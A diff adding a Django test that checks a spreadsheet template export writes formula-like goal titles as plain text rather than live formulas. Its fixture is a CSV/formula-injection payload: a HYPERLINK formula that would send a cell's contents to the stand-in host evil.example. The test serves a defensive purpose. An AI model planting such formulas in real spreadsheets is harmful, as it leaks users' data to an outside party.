@@ -442,3 +442,15 @@ def test_a_confirmation_posted_again_stores_nothing_and_says_so(client, tmp_path
     fresh = upload(client, tmp_path, [row("5g-stations", "个", "2024-07-01", "3700")], kind="csv")
     client.post(IMPORT, {"payload": fresh.context["payload"]})
     assert ProgressUpdate.objects.count() == 3
+
+
+def test_the_template_writes_a_formula_like_title_as_text(client, department, recorder):
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    GoalFactory(slug="evil", title=title, unit="+1", lead_department=department)
+    client.force_login(recorder)
+    response = client.get("/admin/goals/progressupdate/template/", {"department": department.slug})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    [cells] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == "evil"]
+    assert (cells[1].value, cells[1].data_type) == (title, "s")  # shown as typed, never evaluated
+    assert (cells[2].value, cells[2].data_type) == ("+1", "s")
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
